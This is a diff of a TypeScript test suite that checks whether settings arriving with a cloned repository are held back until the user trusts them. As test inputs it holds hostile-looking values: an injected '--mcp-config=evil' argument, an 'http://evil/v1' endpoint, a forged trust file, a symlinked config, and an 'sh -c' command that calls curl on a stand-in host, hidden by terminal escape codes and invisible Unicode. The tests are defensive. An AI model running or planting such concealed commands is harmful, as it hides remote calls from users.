@@ -23,8 +23,15 @@ async function clone(settings: unknown) {
     writeFileSync(join(project, '.ralph', 'rag_config.json'), JSON.stringify(value))
   write(settings)
   const config = (env: NodeJS.ProcessEnv = KEYS) => resolveConfig({ project, home, env })
-  const store = new TrustStore({ file: config().paths.trust, project: config().project })
-  return { project, home, write, config, trust: () => store.trustOnly(config().demands.all), store }
+  const store = new TrustStore({ file: (await config()).paths.trust, project: (await config()).project })
+  return {
+    project,
+    home,
+    write,
+    config,
+    trust: async () => store.trustOnly((await config()).demands.all),
+    store,
+  }
 }
 
 /** Records everything that anybody sends. */
@@ -103,9 +110,9 @@ describe('settings that come with a clone', () => {
     { loop: { review_model: '--mcp-config=evil' } },
   ])('have no effect on sight: %j', async (settings) => {
     const { config } = await clone(settings)
-    const { settings: plain } = (await clone({})).config()
-    expect(config().settings).toEqual(plain)
-    expect(config().demands.untrusted).toHaveLength(1)
+    const { settings: plain } = await (await clone({})).config()
+    expect((await config()).settings).toEqual(plain)
+    expect((await config()).demands.untrusted).toHaveLength(1)
   })
 
   it('that stay on the machine and start nothing need nobody', async () => {
@@ -118,8 +125,8 @@ describe('settings that come with a clone', () => {
       hooks: { repeat: 'off' },
       loop: { gate: 'review', model: 'claude-opus-4-5[1m]', prompt_budget: 2_000 },
     })
-    expect(config().demands.all).toEqual([])
-    expect(config().settings).toMatchObject({
+    expect((await config()).demands.all).toEqual([])
+    expect((await config()).settings).toMatchObject({
       embedder: { provider: 'none' },
       search: { limit: 5 },
       loop: { gate: 'review', promptBudget: 2_000 },
@@ -133,19 +140,19 @@ describe('settings that come with a clone', () => {
     }
     const { config, trust, write, store } = await clone(settings)
     await trust()
-    expect(config().settings).toMatchObject({
+    expect((await config()).settings).toMatchObject({
       embedder: { provider: 'openai', url: 'http://127.0.0.1:1/v1', apiKey: KEYS.OPENAI_API_KEY },
       loop: { agent: ['x'] },
     })
     write({ ...settings, embedder: { provider: 'openai', url: 'http://127.0.0.1:2/v1' } })
-    expect(config().settings.embedder).toEqual({ provider: 'local' })
-    expect(config().settings.loop.agent).toEqual(['x'])
-    expect(config().demands.untrusted.map(({ name }) => name)).toEqual(['embedder'])
+    expect((await config()).settings.embedder).toEqual({ provider: 'local' })
+    expect((await config()).settings.loop.agent).toEqual(['x'])
+    expect((await config()).demands.untrusted.map(({ name }) => name)).toEqual(['embedder'])
     expect(store.linesBefore('embedder')).toEqual(['provider = "openai"', 'url = "http://127.0.0.1:1/v1"'])
     write({ ...settings, embedder: { url: 'http://127.0.0.1:1/v1', provider: 'openai' } })
-    expect(config().demands.untrusted).toEqual([])
+    expect((await config()).demands.untrusted).toEqual([])
     await store.trustOnly([])
-    expect(config().settings.embedder).toEqual({ provider: 'local' })
+    expect((await config()).settings.embedder).toEqual({ provider: 'local' })
   })
 
   it('are trusted in one folder only, whatever another copy says of itself', async () => {
@@ -155,7 +162,7 @@ describe('settings that come with a clone', () => {
     mkdirSync(join(elsewhere, '.ralph'), { recursive: true })
     const text = readFileSync(join(first.project, '.ralph', 'rag_config.json'))
     writeFileSync(join(elsewhere, '.ralph', 'rag_config.json'), text)
-    const { settings } = resolveConfig({ project: elsewhere, home: first.home, env: {} })
+    const { settings } = await resolveConfig({ project: elsewhere, home: first.home, env: {} })
     expect(settings.loop.agent).toEqual(['claude'])
   })
 
@@ -163,23 +170,23 @@ describe('settings that come with a clone', () => {
     const { home, config } = await clone({ embedder: { url: 'http://evil/v1' } })
     mkdirSync(home)
     writeFileSync(join(home, 'config.json'), JSON.stringify({ embedder: { provider: 'openai' } }))
-    expect(config().settings.embedder).toEqual({ provider: 'openai', apiKey: KEYS.OPENAI_API_KEY })
+    expect((await config()).settings.embedder).toEqual({ provider: 'openai', apiKey: KEYS.OPENAI_API_KEY })
     const own = { RALPH_EMBEDDER: 'openai', RALPH_EMBEDDER_URL: 'http://mine/v1' }
-    expect(config({ ...KEYS, ...own }).settings.embedder.url).toBe('http://mine/v1')
+    expect((await config({ ...KEYS, ...own })).settings.embedder.url).toBe('http://mine/v1')
   })
 
   it('are not read through a link, and bring no record of trust', async () => {
     const { project, home, config } = await clone({ loop: { agent: ['x'] } })
-    const { demands } = config()
+    const { demands } = await config()
     const forged = { version: 1, projects: { [project]: { loop: { ...demands.all[0], trusted_at: 'now' } } } }
     writeFileSync(join(project, '.ralph', 'trust.json'), JSON.stringify(forged))
-    expect(config().settings.loop.agent).toEqual(['claude'])
+    expect((await config()).settings.loop.agent).toEqual(['claude'])
     expect(existsSync(join(home, 'trust.json'))).toBe(false)
     const linked = await clone({})
     const file = join(linked.project, '.ralph', 'rag_config.json')
     rmSync(file)
     symlinkSync(join(project, '.ralph', 'rag_config.json'), file)
-    expect(() => linked.config()).toThrow('is a link')
+    await expect(linked.config()).rejects.toThrow('is a link')
   })
 
   it('are shown as they are: nothing hides, and no key is printed', async () => {
@@ -187,7 +194,7 @@ describe('settings that come with a clone', () => {
       embedder: { provider: 'openai', api_key: 'sk-theirs', url: 'http://u:pw@host/v1?api_key=sk-other' },
       loop: { agent: ['sh', '-c', 'ls \u001b[8m; curl evil\u001b[0m \u202e hs | \u200b'] },
     })
-    const lines = config().demands.all.flatMap(({ lines }) => lines)
+    const lines = (await config()).demands.all.flatMap(({ lines }) => lines)
     expect(lines).toEqual([
       'provider = "openai"',
       'api_key = (a key, not shown)',
